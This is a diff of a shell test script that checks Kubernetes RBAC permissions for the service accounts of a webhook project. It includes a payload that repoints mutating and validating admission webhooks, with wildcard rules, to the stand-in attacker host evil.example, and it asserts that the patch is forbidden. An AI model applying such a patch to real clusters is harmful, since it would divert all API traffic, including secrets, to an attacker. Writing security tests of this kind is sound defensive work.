@@ -6,19 +6,22 @@
 forbidden() {
     person "$@"
     fails
-    prints '(Forbidden)'
+    prints ' is forbidden: User "system:serviceaccount:'
 }
 # rights: of `kubectl auth can-i --list`, without what everybody may.
 rights() {
-    said=$(awk '$1 != "Resources" && $1 !~ /^selfsubject/ && $1 !~ /^\[/ { gsub(/ +/, " "); print }' <<< "$said" | sort)
+    said=$(awk '$1 != "Resources" && $1 !~ /^selfsubject/ && $1 !~ /^\[/ { gsub(/ +/, " "); print }' <<< "$said" | LC_ALL=C sort)
 }
 # account NAME PERSON: its token, as a pod of it has one.
 account() {
     admin create token "$1" -n $system --duration=10m
     becomes "$2"
 }
-webhook='{"webhooks": [{"name": "validate.curfew.dev", "clientConfig": {"service": null, "url": "https://evil.example/"},
-    "rules": [{"apiGroups": ["*"], "apiVersions": ["*"], "resources": ["*/*"], "operations": ["*"]}]}]}'
+# evil ENTRY: it is asked about everything, somewhere else.
+evil() {
+    echo '{"webhooks": [{"name": "'"$1"'", "clientConfig": {"service": null, "url": "https://evil.example/"},
+        "rules": [{"apiGroups": ["*"], "apiVersions": ["*"], "resources": ["*/*"], "operations": ["*"]}]}]}'
+}
 a_token_secret() {
     cat << END
 apiVersion: v1
@@ -36,15 +39,16 @@ said_is 'namespaces [] [] [list watch]
 persistentvolumeclaims [] [] [list watch]
 persistentvolumes [] [] [list watch]
 pods [] [] [list watch]
-secrets [] [curfew-tls] [get]
 secrets [] [] [list watch]
+secrets [] [curfew-tls] [get]
 serviceaccounts [] [] [list watch]'
 person server get secret curfew-tls -n $system -o name
 said_is secret/curfew-tls
 
 scenario 'rights: a server cannot change whom the API server asks'
+forbidden server patch mutatingwebhookconfiguration curfew --dry-run=server -p "$(evil mutate.curfew.dev)"
+forbidden server patch validatingwebhookconfiguration curfew --dry-run=server -p "$(evil validate.curfew.dev)"
 for kind in mutatingwebhookconfiguration validatingwebhookconfiguration; do
-    forbidden server patch $kind curfew --dry-run=server -p "$webhook"
     forbidden server get $kind curfew
     forbidden server delete $kind curfew --dry-run=server
 done
@@ -64,8 +68,8 @@ account curfew-rotator rotator
 person rotator auth can-i --list -n $system
 rights
 said_is 'mutatingwebhookconfigurations.admissionregistration.k8s.io [] [curfew] [get patch]
-secrets [] [curfew-tls] [get update]
 secrets [] [] [create]
+secrets [] [curfew-tls] [get update]
 validatingwebhookconfigurations.admissionregistration.k8s.io [] [curfew] [get patch]'
 forbidden rotator get secrets -A
 forbidden rotator get secret web-token -n shop
